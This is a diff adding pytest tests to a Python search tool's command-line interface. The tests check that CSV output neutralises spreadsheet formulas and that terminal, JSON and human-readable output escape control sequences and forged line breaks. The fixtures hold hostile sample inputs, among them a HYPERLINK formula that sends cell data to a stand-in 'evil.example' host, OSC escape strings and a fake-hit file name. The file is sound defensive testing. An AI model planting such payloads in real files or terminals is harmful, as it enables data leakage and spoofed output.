@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import contextlib
 import csv
+import io
 import json
 import os
 import shutil
@@ -14,12 +15,12 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner, Result
 
-from searchlib import Article, Index
+from searchlib import Article, Index, Quote
 from searchlib_cli import common
 from searchlib_cli.main import main as searchlib_command
 from searchlib_cli.search import search as search_command
 
-from .conftest import HIT_KEYS, SEED, SEED_ID
+from .conftest import HIT_KEYS, REPOSITORY, SEED, SEED_ID
 from .test_index import DATED, README_DATES
 
 
@@ -242,6 +243,109 @@ def test_article_text_cannot_inject_terminal_escapes(tmp_path: Path) -> None:
     assert "\x1b" not in result.stdout and "\x07" not in result.stdout
 
 
+HOSTILE = "walrus \x9b31m \x7f \u202eexe.txt\u202c \u2066 \u2028 \x1b]0;owned\x07 end"
+"""Text that steers a terminal: CSI (C1), DEL, bidirectional overrides and isolates, a line
+separator, and an OSC sequence (ESC ... BEL)."""
+_STEERING = ["\x9b", "\x7f", "\u202e", "\u202c", "\u2066", "\u2028", "\x1b", "\x07"]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    """An index of articles whose text, headline and file name try to steer the reader."""
+    with Index(tmp_path / "hostile") as index:
+        index.add(
+            Article(
+                id="formula",
+                headline='=HYPERLINK("http://evil.example/?"&A1,"walrus")',
+                body="walrus -2 @SUM(A1)",
+                quotes=[Quote("walrus", speaker="@Evil")],
+                path="/archive/a.txt\n2. Fake hit\n   fake/id · score 9.99",
+            )
+        )
+        index.add(Article(id="steer", headline="+1 walrus", body=HOSTILE, path="/archive/b.txt"))
+    return tmp_path / "hostile"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile: Path) -> None:
+    result = run(search_command, "walrus", "--index", str(hostile), "--csv")
+    header, *rows = csv.reader(io.StringIO(result.stdout))
+    hits = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    assert hits["formula"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"walrus")'
+    assert hits["formula"]["speakers"] == "'@Evil"
+    assert hits["steer"]["headline"] == "'+1 walrus"
+    assert hits["formula"]["snippet"] == "walrus -2 @SUM(A1)"  # only a cell's start counts
+    assert not any(cell and cell[0] in "=+-@\t\r" for row in rows for cell in row)
+    numbers = run(search_command, "walrus", "--index", str(hostile), "--csv", "--fields", "rank")
+    assert numbers.stdout.splitlines() == ["rank", "1", "2"]
+
+
+@pytest.mark.parametrize("output", ["--json", "--jsonl"])
+def test_json_escapes_every_control_and_keeps_the_text(hostile: Path, output: str) -> None:
+    result = run(
+        search_command, "walrus", "--index", str(hostile), output, "--fields", "id,snippet"
+    )
+    assert result.exit_code == 0
+    assert not any(character in result.stdout for character in _STEERING)
+    rows = (
+        json.loads(result.stdout)
+        if output == "--json"
+        else [json.loads(line) for line in result.stdout.splitlines()]
+    )
+    with Index(hostile) as index:
+        assert rows == [
+            {"id": row["id"], "snippet": row["snippet"]}
+            for row in index.search("walrus").to_dicts()
+        ]
+    assert any("\u202eexe.txt\u202c" in row["snippet"] for row in rows)
+
+
+def test_show_json_escapes_every_control_and_keeps_the_text(hostile: Path) -> None:
+    result = run(searchlib_command, "show", "steer", "--index", str(hostile), "--json")
+    assert not any(character in result.stdout for character in _STEERING)
+    assert json.loads(result.stdout)["body"] == HOSTILE
+
+
+def test_people_view_drops_controls_and_escapes_line_breaks_in_file_names(hostile: Path) -> None:
+    for command, arguments in [
+        (search_command, ["walrus"]),
+        (searchlib_command, ["show", "steer"]),
+        (searchlib_command, ["show", "formula"]),
+    ]:
+        result = run(command, *arguments, "--index", str(hostile), "--color", "never")
+        assert not any(character in result.stdout for character in _STEERING)
+    lines = run(search_command, "walrus", "--index", str(hostile)).stdout.splitlines()
+    assert sorted(line[3:] for line in lines if line[:3] in ("1. ", "2. ")) == [
+        "+1 walrus",
+        '=HYPERLINK("http://evil.example/?"&A1,"walrus")',
+    ]
+    assert any(
+        line.endswith(" · /archive/a.txt\\n2. Fake hit\\n   fake/id · score 9.99") for line in lines
+    )
+
+
+def test_a_lone_surrogate_in_an_article_does_not_break_output(tmp_path: Path) -> None:
+    with Index(tmp_path / "index") as index:
+        index.add(Article(id="odd", headline="walrus \ud800", body="walrus \udfff text"))
+    for output in ([], ["--json"], ["--jsonl"], ["--csv"]):
+        result = run(search_command, "walrus", "--index", str(tmp_path / "index"), *output)
+        assert result.exit_code == 0, result.stderr
+        result.stdout.encode()  # text any terminal or file can take
+
+
+def test_index_paths_are_printed_escaped(tmp_path: Path, articles: Path) -> None:
+    target = str(tmp_path / "esc\x1b]0;PWNED\x07")
+    commands = [
+        ["index", str(articles), "--index", target],
+        ["stats", "--index", target],
+        ["check", "--index", target],
+    ]
+    for arguments in commands:
+        result = run(searchlib_command, *arguments)
+        assert result.exit_code == 0, result.stderr
+        assert "\x1b" not in result.output and "\x07" not in result.output
+        assert "esc\\x1b]0;PWNED\\x07" in result.stdout
+
+
 def test_missing_default_index_is_built_from_seeds(
     tmp_path: Path, seeds: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -251,12 +355,26 @@ def test_missing_default_index_is_built_from_seeds(
     (tmp_path / "index" / ".gitkeep").touch()
     first = run(search_command, "Byrne JAG")
     assert first.exit_code == 0
-    assert "No index in ./index yet: building it from ./seeds" in first.stderr
+    assert "No index in ./index yet: building it from ./seeds (once): 1 article file in " in (
+        first.stderr
+    )
     assert "Indexed ./seeds: 1 added" in first.stderr
     assert (tmp_path / "index").is_dir()
     second = run(search_command, "Byrne JAG")
     assert second.exit_code == 0 and second.stderr == ""
     assert second.stdout == first.stdout
+
+
+def test_a_seeds_folder_without_articles_builds_no_index(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)  # a program's folder: ./seeds holds its seed data
+    monkeypatch.delenv("SEARCHLIB_INDEX", raising=False)
+    (tmp_path / "seeds").mkdir()
+    (tmp_path / "seeds" / "users.rb").write_text('User.create!(name: "Byrne")\n')
+    result = run(search_command, "Byrne")
+    assert_one_line_error(result, "no index in index; build one with `searchlib index PATH`")
+    assert not (tmp_path / "index").exists()
 
 
 def test_index_environment_variable(built: Path) -> None:
@@ -446,6 +564,36 @@ def test_run_and_eval_on_a_small_collection(tmp_path: Path) -> None:
     assert text.splitlines()[0] == "nDCG@10  1.0000"
 
 
+def test_run_writes_ids_holding_spaces_and_eval_matches_them(tmp_path: Path) -> None:
+    (tmp_path / "news").mkdir()
+    (tmp_path / "news" / "my story.txt").write_text("The walrus story.\n")
+    (tmp_path / "news" / "other.txt").write_text("A walrus and a walrus.\n")
+    index = str(tmp_path / "index")
+    assert run(searchlib_command, "index", str(tmp_path / "news"), "--index", index).exit_code == 0
+    (tmp_path / "queries.tsv").write_text("q 1\twalrus story\n")
+    qrels = tmp_path / "qrels.tsv"
+    qrels.write_text("query-id\tcorpus-id\tscore\nq 1\tnews/my story\t1\n")
+    output = tmp_path / "run.trec"
+    arguments = [str(tmp_path / "queries.tsv"), "--index", index, "-o", str(output)]
+    ranked = run(searchlib_command, "run", *arguments)
+    assert ranked.exit_code == 0, ranked.stderr
+    assert output.read_text().splitlines()[0].startswith("q%201 Q0 news/my%20story 1 ")
+    scored = run(searchlib_command, "eval", "--qrels", str(qrels), str(output), "--json")
+    assert json.loads(scored.stdout)["RR@10"] == 1.0
+
+
+def test_run_refuses_queries_without_ids_in_one_line(tmp_path: Path, seeds: Path) -> None:
+    (tmp_path / "queries.txt").write_text("sanctuary cities\nByrne JAG\n")
+    output = tmp_path / "run.trec"
+    arguments = ["run", str(tmp_path / "queries.txt"), "-o", str(output)]
+    result = run(searchlib_command, *arguments, "--index", str(tmp_path / "absent"))
+    assert_one_line_error(
+        result,
+        "queries.txt, line 1: expected a query as id<TAB>text or as JSON Lines with _id and text",
+    )
+    assert not output.exists()
+
+
 def test_eval_reports_a_malformed_file_in_one_line(tmp_path: Path) -> None:
     qrels = tmp_path / "qrels.txt"
     qrels.write_text("q1 0 d1 yes\n")
@@ -520,7 +668,7 @@ def test_search_runs_each_date_form_the_readme_shows(tmp_path: Path) -> None:
         ("(Homan OR Gimenez) AND immigration", {SEED_ID}),
         ("headline:(Byrne OR marathon)", {RUNNERS}),  # Byrne is in bodies only
         ("Miami-Dade", {SEED_ID}),
-        ("U.S.", {"articles/world/economy", SEED_ID}),
+        ("U.S.", {"articles/world/economy", SEED_ID}),  # "US"; the seed's pronoun "us"
         ("Gimenes~2", {SEED_ID}),
     ],
 )
@@ -592,6 +740,24 @@ def test_facets_follow_the_hits_or_go_to_stderr(built: Path) -> None:
     assert len(json.loads(machine.stdout)) == 1
     assert machine.stderr.splitlines() == [f"facet {speakers}", f"facet {sources}"]
     assert "speaker:" not in run(search_command, *arguments).stdout
+
+
+def test_the_readmes_explain_example_is_what_search_writes(tmp_path: Path, seeds: Path) -> None:
+    readme = (REPOSITORY / "README.md").read_text(encoding="utf-8")
+    shown = readme.split("`search 'Byrne JAG' --explain`:\n\n```\n", 1)[1].split("```")[0]
+    with Index(tmp_path / "index") as index:  # what the first search builds from ./seeds
+        index.add_folder(seeds)
+    result = run(search_command, "Byrne JAG", "--index", str(tmp_path / "index"), "--explain")
+    assert result.stdout.splitlines()[3:5] == shown.splitlines()
+
+
+def test_the_readme_uses_no_folder_users_lack_and_says_to_activate_the_environment() -> None:
+    readme = (REPOSITORY / "README.md").read_text(encoding="utf-8")
+    before = readme.split("## Development", 1)[0]
+    assert "../shared" not in before.split("## Sample corpora")[0]
+    assert "../shared" not in before.split("## Query language")[1]
+    commands = [line for line in before.splitlines() if line.startswith(("search", "searchlib "))]
+    assert commands and readme.index(". .venv/bin/activate") < readme.index(commands[0])
 
 
 def test_explain_shows_what_each_word_added_in_each_field(built: Path) -> None:
